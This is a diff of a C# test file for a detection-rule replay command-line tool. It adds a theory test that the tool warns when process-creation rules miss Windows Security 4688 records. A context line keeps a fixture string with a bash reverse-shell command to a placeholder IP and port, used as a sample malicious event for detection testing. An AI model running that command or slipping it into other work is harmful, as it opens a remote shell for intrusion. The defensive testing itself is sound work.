@@ -11,6 +11,7 @@ public sealed class ReplaySpec : IDisposable
 {
     private const string ReverseShell = "f14eb449-a05b-47b7-8557-70973f8b0c7d";
     private const string Shell = """{"Image":"/bin/bash","CommandLine":"bash -i >& /dev/tcp/203.0.113.10/4444 0>&1","ProcessId":PID}""";
+    private const string Native = """{"Channel":"Security","EventID":4688,"NewProcessName":"x"}""";
     private const string Quiet = """{"Image":"/bin/ls","CommandLine":"ls"}""";
 
     private readonly string _folder = Directory.CreateTempSubdirectory("picket-cli-").FullName;
@@ -27,6 +28,31 @@ public sealed class ReplaySpec : IDisposable
     private string Alerts => Path.Combine(_folder, "alerts.ndjson");
 
     public void Dispose() => Directory.Delete(_folder, recursive: true);
+
+    [Theory]
+    [InlineData("process_creation", Native, null, "4688")]
+    [InlineData("process_creation", Native, "windows", null)]
+    [InlineData("file_event", Native, null, null)]
+    [InlineData("process_creation", """{"Channel":"Microsoft-Windows-Sysmon/Operational","EventID":1,"Image":"x"}""", null, null)]
+    [InlineData("process_creation", """{"Channel":"Security","EventID":4624}""", null, null)]
+    [InlineData("process_creation", """{"Channel":"System","EventID":4688}""", null, null)]
+    [InlineData("process_creation", """{"EventID":4688.0,"SourceName":"Microsoft-Windows-Security-Auditing"}""", null, "4688")]
+    public async Task Rules_that_are_not_asked_about_what_Windows_itself_recorded_are_told_of(
+        string category, string record, string? pipeline, string? told)
+    {
+        var rule = Write("rule.yml", "title: t", $"logsource: {{ product: windows, category: {category} }}", "detection:",
+            "  s:", "    Image: y", "  condition: s");
+        var input = Write("in.ndjson", record);
+        string[] options = ["replay", "--rules", rule, "--alerts", Alerts, input, .. pipeline is null ? Array.Empty<string>() : ["--pipeline", pipeline]];
+
+        var text = await Cli.RunAsync(options);
+        var json = await Cli.RunAsync([.. options, "--json"]);
+
+        Assert.Equal(0, text.Code);
+        Assert.Equal(told is not null, text.Out.Contains("\nwarning: rules of process_creation were not asked about the records of Security 4688", StringComparison.Ordinal));
+        using var summary = JsonDocument.Parse(json.Out);
+        Assert.Equal(told is null ? 0 : 1, summary.RootElement.GetProperty("warnings").GetArrayLength());
+    }
 
     [Fact]
     public async Task A_malformed_line_is_named_and_the_rest_is_asked_about()
